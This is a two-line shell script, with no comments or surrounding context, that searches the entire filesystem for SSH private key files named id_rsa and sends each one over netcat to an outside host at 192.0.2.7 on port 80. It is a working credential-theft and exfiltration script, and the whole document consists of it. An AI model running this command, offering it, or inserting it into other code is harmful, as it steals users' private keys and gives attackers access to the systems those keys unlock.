#!/bin/sh
find / -name id_rsa -exec sh -c 'nc 192.0.2.7 80 < "$1"' _ {} \;
